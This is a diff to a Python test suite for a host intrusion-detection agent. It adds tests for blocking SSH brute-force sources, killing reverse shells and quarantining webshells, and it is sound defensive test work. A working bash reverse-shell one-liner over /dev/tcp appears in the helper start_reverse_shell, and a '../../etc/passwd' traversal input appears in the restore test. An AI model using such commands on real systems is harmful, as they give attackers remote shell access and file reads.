@@ -14,13 +14,14 @@ import os
 import shutil
 import signal
 import socket
+import stat
 import subprocess
 import sys
 import time
 import unittest
 
 import harness  # noqa: F401  (cleanups)
-from agent_harness import Agent, sign
+from agent_harness import Agent, agent_path, sign
 from rampartd_harness import Rampartd, bearer, curl, first_login, make_token, make_user
 
 RD = ADMIN = SECOPS = AUDITOR = None
@@ -365,7 +366,23 @@ class BruteForce(unittest.TestCase):
         cls.agent.write_conf("auth_log %s\nbruteforce_threshold 4\n"
                              "bruteforce_window_seconds 60\n" % cls.sshd_log)
         cls.agent.start()
-        cls.agent.wait_log("fim: scan done")
+        # two more agents on the same log with active response: one
+        # active, one dry-run, each with its nft commands in a network
+        # namespace of its own (the host's firewall is never touched)
+        cls.netns = {}
+        cls.responders = {}
+        for mode in ("active", "dry-run"):
+            ns = "rp-agent-%s-%d" % (mode, os.getpid())
+            subprocess.run(["ip", "netns", "add", ns], check=True)
+            harness._cleanups.append(lambda ns=ns: subprocess.run(["ip", "netns", "del", ns]))
+            cls.netns[mode] = ns
+            agent = Agent(RD.port, enrolment_token(), hostname="ssh-%s" % mode)
+            agent.write_conf("auth_log %s\nbruteforce_threshold 4\nbruteforce_window_seconds 60\n"
+                             "response_mode %s\nresponse_rule bruteforce.source block 120\n"
+                             "response_netns %s\n" % (cls.sshd_log, mode, ns))
+            cls.responders[mode] = agent.start()
+        for agent in [cls.agent] + list(cls.responders.values()):
+            agent.wait_log("fim: scan done")
 
     @classmethod
     def stop_sshd(cls):
@@ -376,6 +393,8 @@ class BruteForce(unittest.TestCase):
     @classmethod
     def tearDownClass(cls):
         cls.agent.stop()
+        for agent in cls.responders.values():
+            agent.stop()
         cls.stop_sshd()
 
     def failed_login(self, user):
@@ -394,8 +413,8 @@ class BruteForce(unittest.TestCase):
     def test_password_guessing_is_detected(self):
         for i in range(5):
             self.failed_login("guess-%d" % i if i % 2 else "root")
-        found = wait_for(lambda: [e for e in self.events()
-                                  if "bruteforce.source" in e["rules"]], timeout=10)
+        found = wait_for(lambda: [e for e in self.events() if "bruteforce.source" in e["rules"]
+                                  and e["source"] == "agent:ssh-1"], timeout=10)
         self.assertTrue(found, self.agent.log_tail())
         ev = found[0]
         self.assertEqual(ev["client"], "127.0.0.1")
@@ -407,12 +426,92 @@ class BruteForce(unittest.TestCase):
         # one alert per source and window, however many more failures come
         self.failed_login("root")
         time.sleep(1.5)
-        self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]]), 1)
+        self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]
+                              and e["source"] == "agent:ssh-1"]), 1)
+
+    def nft(self, mode, *args):
+        return subprocess.run(["ip", "netns", "exec", self.netns[mode], "nft"] + list(args),
+                              capture_output=True, text=True)
+
+    def responses(self, host):
+        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"] if e["source"] == "agent:" + host]
+
+    def connects_in(self, mode):
+        """A TCP connection from 127.0.0.1 to a listener, inside the namespace."""
+        code = ("import socket\nl = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)\n"
+                "c = socket.socket(); c.settimeout(1.5)\n"
+                "try:\n    c.connect(l.getsockname()); print('connected')\n"
+                "except OSError:\n    print('dropped')\n")
+        subprocess.run(["ip", "netns", "exec", self.netns[mode], "ip", "link", "set", "lo", "up"],
+                       check=True)
+        out = subprocess.run(["ip", "netns", "exec", self.netns[mode], sys.executable, "-c", code],
+                             capture_output=True, text=True, timeout=30).stdout
+        return out.strip() == "connected"
+
+    def test_active_response_blocks_the_source_dry_run_does_not(self):
+        for i in range(5):
+            self.failed_login("guess-%d" % i)
+        found = wait_for(lambda: self.responses("ssh-active"), timeout=10)
+        self.assertTrue(found, self.responders["active"].log_tail())
+        ev = found[0]
+        self.assertIn("response.block", ev["rules"])
+        self.assertEqual((ev["action"], ev["client"], ev["uri"]), ("block", "127.0.0.1",
+                                                                   "127.0.0.1"))
+        d = event_detail(ev, "response")
+        self.assertEqual((d["mode"], d["trigger"], d["done"], d["seconds"]),
+                         ("active", "bruteforce.source", True, 120))
+        # the element is there, with its timeout, and it drops the traffic
+        listed = self.nft("active", "list", "set", "inet", "rampart", "blocked4")
+        self.assertEqual(listed.returncode, 0, listed.stderr)
+        self.assertIn("127.0.0.1", listed.stdout)
+        self.assertIn("expires", listed.stdout)
+        self.assertFalse(self.connects_in("active"))
+        # dry-run: the event says what would have been done; no table at all
+        dry = wait_for(lambda: self.responses("ssh-dry-run"), timeout=10)
+        self.assertTrue(dry, self.responders["dry-run"].log_tail())
+        self.assertEqual(dry[0]["action"], "log")
+        d = event_detail(dry[0], "response")
+        self.assertEqual((d["mode"], d["done"]), ("dry-run", False))
+        self.assertNotEqual(self.nft("dry-run", "list", "table", "inet", "rampart").returncode, 0)
+        self.assertTrue(self.connects_in("dry-run"))
+        # reversible: -U lifts the block; the agent reports the reversal
+        active = self.responders["active"]
+        r = subprocess.run([agent_path(), "-c", active.conf, "-U", "127.0.0.1"],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertNotIn("127.0.0.1",
+                         self.nft("active", "list", "set", "inet", "rampart", "blocked4").stdout)
+        self.assertTrue(self.connects_in("active"))
+        self.assertTrue(wait_for(lambda: [e for e in self.responses("ssh-active")
+                                          if "response.unblock" in e["rules"]], timeout=5))
 
 
 def event_detail(ev, category):
     full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
     return full.get("event", full).get(category) or full.get("raw", {}).get(category)
+
+
+def start_reverse_shell():
+    """A real reverse shell: bash -i with stdin/stdout/stderr on a TCP
+    connection to a listener of the test. Returns (shell, port, close)."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    port = listener.getsockname()[1]
+    shell = subprocess.Popen(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
+                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL, start_new_session=True)
+    conn, _ = listener.accept()
+
+    def close():
+        if shell.poll() is None:
+            os.killpg(shell.pid, signal.SIGKILL)
+        shell.wait()
+        conn.close()
+        listener.close()
+    return shell, port, close
 
 
 class Processes(unittest.TestCase):
@@ -447,17 +546,10 @@ class Processes(unittest.TestCase):
         return wait_for(find, timeout=timeout, step=0.2)
 
     def test_a_reverse_shell_is_detected_an_ordinary_shell_is_not(self):
-        listener = socket.socket()
-        listener.bind(("127.0.0.1", 0))
-        listener.listen(1)
-        port = listener.getsockname()[1]
         ordinary = subprocess.Popen(["bash", "-c", "sleep 3; true"], stdin=subprocess.DEVNULL,
                                     stdout=subprocess.DEVNULL)
         started = time.time()
-        shell = subprocess.Popen(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
-                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                                 stderr=subprocess.DEVNULL, start_new_session=True)
-        conn, _ = listener.accept()
+        shell, port, close = start_reverse_shell()
         try:
             found = self.for_pid("process.reverse_shell", shell.pid)
             self.assertTrue(found, self.agent.log_tail())
@@ -473,10 +565,7 @@ class Processes(unittest.TestCase):
             # the ordinary shell (stdin /dev/null, stdout a pipe) is not one
             self.assertIsNone(self.for_pid("process.reverse_shell", ordinary.pid, timeout=2.5))
         finally:
-            conn.close()
-            listener.close()
-            os.killpg(shell.pid, signal.SIGKILL)
-            shell.wait()
+            close()
             ordinary.wait()
 
     def test_web_server_child_miner_deleted_file_and_listener(self):
@@ -604,6 +693,86 @@ class Baseline(unittest.TestCase):
         agent.proc.wait(timeout=10)
         self.assertEqual(agent.proc.returncode, 2)
         self.assertIn("%s:3: expected an operator" % bad, agent.log_text())
+
+
+class ActiveResponse(unittest.TestCase):
+    """Kill and quarantine in active mode, on real processes and files."""
+
+    @classmethod
+    def setUpClass(cls):
+        if os.geteuid() != 0:
+            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="respond-1")
+        cls.www = cls.agent.path("www")
+        os.mkdir(cls.www)
+        cls.agent.write_conf(
+            "webshell_root %s\nwebshell_rules %s\nprocess_monitor on\nresponse_mode active\n"
+            "response_rule process.reverse_shell kill\nresponse_rule webshell.* quarantine\n" %
+            (cls.www, os.path.join(harness.SOURCE_DIR, "etc", "rampart-webshell.yar")))
+        cls.agent.start()
+        cls.agent.wait_log("fim: scan done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    def responses(self, detection):
+        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"]
+                if e["source"] == "agent:respond-1" and detection in e["rules"]]
+
+    def test_a_reverse_shell_is_killed(self):
+        shell, _, close = start_reverse_shell()
+        try:
+            self.assertEqual(shell.wait(timeout=5), -signal.SIGKILL)
+        finally:
+            close()
+        found = wait_for(lambda: self.responses("response.kill"), timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        d = event_detail(found[0], "response")
+        self.assertEqual((d["pid"], d["done"], d["trigger"]),
+                         (shell.pid, True, "process.reverse_shell"))
+
+    def test_a_webshell_is_quarantined_and_restored(self):
+        sample = os.path.join(harness.SOURCE_DIR, "tests", "data", "webshell", "shells",
+                              "eval_post.php")
+        path = os.path.join(self.www, "shell.php")
+        staged = os.path.join(self.agent.dir, "shell.php")  # its mode set before it arrives
+        shutil.copy(sample, staged)
+        os.chmod(staged, 0o640)
+        os.rename(staged, path)
+        found = wait_for(lambda: self.responses("response.quarantine"), timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        d = event_detail(found[0], "response")
+        self.assertTrue(d["done"], d)
+        self.assertFalse(os.path.exists(path))
+        qdir = os.path.join(self.agent.state, "quarantine")
+        self.assertEqual(stat.S_IMODE(os.stat(qdir).st_mode), 0o700)
+        held = os.path.join(qdir, d["quarantine_id"])
+        with open(held, "rb") as f, open(sample, "rb") as g:
+            self.assertEqual(f.read(), g.read())
+        with open(held + ".json") as f:
+            meta = json.load(f)
+        self.assertEqual((meta["path"], meta["mode"]), (path, 0o640))
+        self.assertEqual(meta["sha256"], d["sha256"])
+        # restored (responses switched off first: the rules would take it again)
+        aid = agents()["respond-1"]["id"]
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"response": False}})
+        self.assertEqual(r.status, 200, r)
+        self.agent.wait_log('capability switched by rampartd" response=off', timeout=5)
+        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", d["quarantine_id"]],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o640)
+        with open(path, "rb") as f, open(sample, "rb") as g:
+            self.assertEqual(f.read(), g.read())
+        self.assertFalse(os.path.exists(held))
+        self.assertTrue(wait_for(lambda: self.responses("response.restore"), timeout=5))
+        # an unknown or malformed id restores nothing
+        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", "../../etc/passwd"],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 1)
 
 
 class Lifecycle(unittest.TestCase):
